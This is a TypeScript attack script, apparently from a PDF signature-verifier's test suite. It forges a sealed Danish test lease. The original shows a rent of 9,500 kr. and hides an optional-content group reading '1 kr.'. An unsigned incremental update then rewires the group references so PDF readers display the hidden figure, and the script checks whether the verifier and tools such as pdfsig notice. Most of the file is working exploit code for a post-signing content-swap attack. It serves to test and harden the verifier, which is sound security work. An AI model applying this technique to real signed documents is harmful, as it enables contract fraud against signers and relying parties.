// a17 M1: a reference to an optional content group made direct (or a direct one made a reference) is a "move"
// with no one-to-one bookkeeping (compare.ts isMove returns true for any ref<->direct pair once reach allows it).
// The sealed page shows "Husleje: 9.500 kr." (OCG A) and hides group B (/OFF [B]): a white box and "1 kr.".
// One later revision, no key, moves B to a new object B' in /OCGs, /Order and /OFF (a clean one-to-one move, B
// is no longer reached), and puts a direct copy of B in page 1's /Properties /ocB (reveal-props) or in /OFF
// (reveal-off). Both pairs B->B' and B->direct pass as moves; readers resolve visibility by identity: a direct
// OCG dictionary is in no /OFF list (poppler optContentIsVisible, PDFium CPDF_OCContext, pdf.js by ref id), so the
// hidden group now shows. swap (needs an original whose /ocA is a direct OCG dict equal to B): /ocA -> B', /ocB ->
// direct copy of B, /OCGs, /Order, /OFF [B']: the shown group is hidden and the hidden one shown.
//   npx tsx scripts/attack-s12/ocg-direct.ts <mode>
// modes: honest, reveal-props, reveal-off, all-direct (every place of B a direct copy of its own, /Order and
// /OCGs too), swap-honest, swap; control-copy (a16's copy: /ocB -> B' with B still
// listed: refused since 0d68205).
import { PDFArray, PDFDict, PDFDocument, PDFName, PDFRef, PDFString, StandardFonts } from "pdf-lib";
import { pki, save, show, tool, verify, work } from "../attack36/lib.js";
import { buildWorkflowEvidence, createWorkflowToken, evidenceAttachments } from "../generator/index.js";
import { mkdirSync, writeFileSync } from "node:fs";
import { appendIncrementalUpdate, loadForUpdate } from "../generator/incremental.js";
import { locateSignature, preparePades, sealPrepared } from "../generator/pdf.js";
import { pdfiumAndPdfjs, renderPage1 } from "../attack-s11/lib.js";
import { createOcspResponse } from "../generator/ocsp.js";
import { startTsa } from "../generator/servers.js";

const mode = process.argv[2] ?? "reveal-props";
const MODES = ["honest", "reveal-props", "reveal-off", "all-direct", "swap-honest", "swap", "control-copy"];
if (!MODES.includes(mode)) throw new Error(`mode: ${MODES.join("|")}, not ${mode}`);
/** Group B paints a white box over the rent and "1 kr."; swap modes: /ocA is a direct OCG dictionary equal to B. */
const directA = mode.startsWith("swap");

/** The original the workflow's initiator uploads: page 1 with the rent in two optional-content groups. */
async function ocgOriginal(): Promise<Uint8Array> {
  const doc = await PDFDocument.create({ updateMetadata: false });
  const ctx = doc.context;
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([595, 842]);
  const a = ctx.register(ctx.obj({ Type: "OCG", Name: PDFString.of("Husleje") }));
  const b = ctx.register(ctx.obj({ Type: "OCG", Name: PDFString.of(directA ? "Husleje" : "Tillaeg") }));
  const lines = [
    "Lejekontrakt",
    "",
    "Udlejer: Sealcheck Test Ejendomme ApS",
    "Lejer: Karen Test Jensen og Lars Test Nielsen",
    "Lejemaal: Testvej 1, 1. th., 8000 Aarhus C",
  ];
  const ops = [
    ...lines.map((l, i) => `BT /F1 ${i === 0 ? 20 : 12} Tf 60 ${760 - i * 22} Td (${l}) Tj ET`),
    "/OC /ocA BDC BT /F1 12 Tf 60 650 Td (Husleje: 9.500 kr. pr. maaned) Tj ET EMC",
    "/OC /ocB BDC 1 g 55 645 320 20 re f 0 g BT /F1 12 Tf 60 650 Td (Husleje: 1 kr. pr. maaned) Tj ET EMC",
    "BT /F1 12 Tf 60 606 Td ((Testdokument - ikke gyldigt)) Tj ET",
  ];
  page.node.set(PDFName.of("Contents"), ctx.register(ctx.flateStream(ops.join("\n"))));
  // swap modes: /ocA is a direct OCG dictionary equal to B (shown: a direct group is in no /OFF list).
  const ocA = directA ? (ctx.lookup(b) as PDFDict).clone(ctx) : a;
  page.node.set(PDFName.of("Resources"), ctx.obj({ Font: { F1: font.ref }, Properties: { ocA, ocB: b } }));
  doc.catalog.set(PDFName.of("OCProperties"), ctx.obj({ OCGs: [a, b], D: { Order: [a, b], OFF: [b] } }));
  return doc.save({ useObjectStreams: false });
}

const P = pki();
const base = await buildWorkflowEvidence({ pki: P });
const original = await ocgOriginal();
// The workflow's documents: the initiator's original with the two groups, and the sample's Husorden. The token (its
// PAdES copy) covers their SHA-256 as the broker's does; the originals folder written beside the archive holds them.
const documents = [{ title: "Lejekontrakt", bytes: original }, ...base.originals.slice(1).map((o) => ({ title: o.title, bytes: o.bytes }))];
const e = { ...base, padesToken: await createWorkflowToken({ signer: P.tokenSigner, documents, personalData: false }) };
const prepared = await preparePades({ originals: documents.map((d) => d.bytes), attachments: evidenceAttachments(e) });
// The broker's writer (iText 7) carries an original's optional content into the merged document; pdf-lib's
// copyPages keeps the page's /Properties but not the catalog's /OCProperties, so it is put back before sealing.
const pre = await loadForUpdate(prepared.bytes);
const props = pre.getPage(0).node.lookup(PDFName.of("Resources"), PDFDict).lookup(PDFName.of("Properties"), PDFDict);
const A = props.get(PDFName.of("ocA")) as PDFRef | PDFDict;
const B = props.get(PDFName.of("ocB")) as PDFRef;
const groups = directA ? [B] : [A, B];
const catalog0 = pre.catalog.clone(pre.context);
catalog0.set(PDFName.of("OCProperties"), pre.context.obj({ OCGs: groups, D: { Order: groups, OFF: [B] } }));
const rootRef = pre.context.trailerInfo.Root as PDFRef;
// The signature dictionary (placeholders) is written anew in that update, under a new number that the widget and
// /Perms name: a seal covers the revision that first defines it (the broker's file is one revision).
const sigDict = pre.context.lookup(PDFRef.of(prepared.sigObject)) as PDFDict;
const sigRef = pre.context.nextRef();
const widgetRef = pre.getPage(0).node.lookup(PDFName.of("Annots"), PDFArray).get(0) as PDFRef;
const widget = (pre.context.lookup(widgetRef) as PDFDict).clone(pre.context);
widget.set(PDFName.of("V"), sigRef);
catalog0.set(PDFName.of("Perms"), pre.context.obj({ DocMDP: sigRef }));
const withOc = appendIncrementalUpdate(prepared.bytes, {
  objects: [
    { num: rootRef.objectNumber, body: catalog0 },
    { num: widgetRef.objectNumber, body: widget },
    { num: sigRef.objectNumber, body: sigDict },
  ].sort((x, y) => x.num - y.num),
}).bytes;
const sealed = sealPrepared(locateSignature(withOc, sigRef.objectNumber), P);

let out = sealed;
if (mode !== "honest" && mode !== "swap-honest") {
  const doc = await loadForUpdate(sealed);
  const ctx = doc.context;
  const objects: { num: number; body: PDFDict }[] = [];
  const page = doc.getPage(0);
  const directB = () => (ctx.lookup(B) as PDFDict).clone(ctx);
  const res = page.node.lookup(PDFName.of("Resources"), PDFDict).clone(ctx);
  const c = doc.catalog.clone(ctx);
  if (mode === "control-copy") {
    // a16's copy: a new object with B's content in /Properties while B stays listed (refused since 0d68205).
    const copy = ctx.register(directB());
    objects.push({ num: copy.objectNumber, body: ctx.lookup(copy) as PDFDict });
    res.set(PDFName.of("Properties"), ctx.obj({ ocA: A, ocB: copy }));
  } else {
    // B moves to B' (a new object with B's content) wherever the catalog lists it: B is no longer reached.
    const moved = ctx.register(directB());
    if (mode !== "all-direct") objects.push({ num: moved.objectNumber, body: ctx.lookup(moved) as PDFDict });
    // all-direct: no B' at all, every place of B holds its own direct copy (no move between objects).
    const listed = directA ? [moved] : mode === "all-direct" ? [A, directB()] : [A, moved];
    const off = mode === "reveal-off" || mode === "all-direct" ? [directB()] : [moved];
    if (mode === "all-direct") res.set(PDFName.of("Properties"), ctx.obj({ ocA: A, ocB: directB() }));
    c.set(PDFName.of("OCProperties"), ctx.obj({ OCGs: listed, D: { Order: listed, OFF: off } }));
    if (mode === "reveal-props") res.set(PDFName.of("Properties"), ctx.obj({ ocA: A, ocB: directB() }));
    if (mode === "reveal-off") res.set(PDFName.of("Properties"), ctx.obj({ ocA: A, ocB: moved }));
    if (mode === "swap") res.set(PDFName.of("Properties"), ctx.obj({ ocA: moved, ocB: directB() }));
    objects.push({ num: (ctx.trailerInfo.Root as PDFRef).objectNumber, body: c });
  }
  const resRef = ctx.register(res);
  const p = page.node.clone(ctx);
  p.set(PDFName.of("Resources"), resRef);
  objects.push({ num: resRef.objectNumber, body: res }, { num: page.ref.objectNumber, body: p });
  out = appendIncrementalUpdate(sealed, { objects: objects.sort((x, y) => x.num - y.num) }).bytes;
}

const dir = work(`s12-ocg-${mode}`);
const file = save(dir, "archive.pdf", out);
console.log(`wrote ${file} (${mode}); sealed revision ends at ${sealed.length}, file ${out.length} bytes`);
const originals = `${dir}/originals`;
mkdirSync(originals);
for (const d of documents) writeFileSync(`${originals}/${d.title}.pdf`, d.bytes);
const v = verify(file, [], originals);
show(mode, v);
for (const c of v.report.checks.filter((c) => c.id === "document-digests")) console.log(`   ${c.id} ${c.status}: ${c.message.slice(0, 200)}`);
const m = v.report.checks.find((c) => c.id === "seal-modifications");
console.log(`   seal-modifications ${m?.status}: ${m?.message.slice(0, 300)}`);
const sig = tool("pdfsig", [file])
  .split("\n")
  .filter((l) => /Signature #|Validation|Total document/.test(l));
console.log(`== pdfsig: ${sig.join(" | ")}`);
const rent = (t: string) =>
  t
    .split("\n")
    .filter((l) => /Husleje/.test(l))
    .map((l) => l.trim())
    .join(" / ") || "(no rent line)";
console.log(`== pdftotext page 1: ${rent(tool("pdftotext", ["-f", "1", "-l", "1", "-layout", file, "-"]))}`);
console.log(`== qpdf --check: ${tool("qpdf", ["--check", file]).split("\n").slice(-1)[0]}`);
for (const l of pdfiumAndPdfjs(file, 400).filter((x) => /PDFium|pdf.js|p1:|not run/.test(x))) console.log(`== ${l.trim().slice(0, 260)}`);
console.log(`   page 1 rendered by PDFium and pdf.js: ${renderPage1(file, `${dir}/page1`)}`);
tool("pdftoppm", ["-f", "1", "-l", "1", "-r", "50", "-png", file, `${dir}/page`]);
console.log(`   page 1 rendered by pdftoppm: ${dir}/page-1.png`);
const orig = `${originals}/Lejekontrakt.pdf`;
console.log(`== the original as signed (${orig}), pdftotext: ${rent(tool("pdftotext", ["-layout", orig, "-"]))}`);

// AUGMENT=1: the archivist renews the archive as it finds it (augment with the loopback TSA and the TSA CA's current
// "good"): the archivist's own archive timestamp then covers the update.
if (process.env.AUGMENT === "1") {
  writeFileSync(
    `${dir}/tsa.ocsp`,
    createOcspResponse({ subject: P.tsa, issuer: P.tsaRoot, responder: P.tsaRoot, producedAt: new Date(Date.now() - 3600_000) }),
  );
  const tsa = await startTsa(P.tsa);
  try {
    const args = [
      "dist/cli/main.js",
      "augment",
      file,
      "--out",
      `${dir}/renewed.pdf`,
      "--tsa",
      tsa.url,
      "--trust",
      "samples/trust",
      "--ocsp",
      `${dir}/tsa.ocsp`,
    ];
    const out = await new Promise<string>((res) => {
      void import("node:child_process").then(({ execFile }) => execFile("node", args, { encoding: "utf8" }, (_e, so, se) => res(`${so}${se}`)));
    });
    console.log(`== sealcheck augment: ${out.trim().split("\n").slice(0, 4).join(" | ").slice(0, 500)}`);
  } finally {
    await tsa.close();
  }
  const r = verify(`${dir}/renewed.pdf`, [], originals);
  show("renewed", r);
  console.log(`== pdftotext page 1 of renewed.pdf: ${rent(tool("pdftotext", ["-f", "1", "-l", "1", "-layout", `${dir}/renewed.pdf`, "-"]))}`);
}
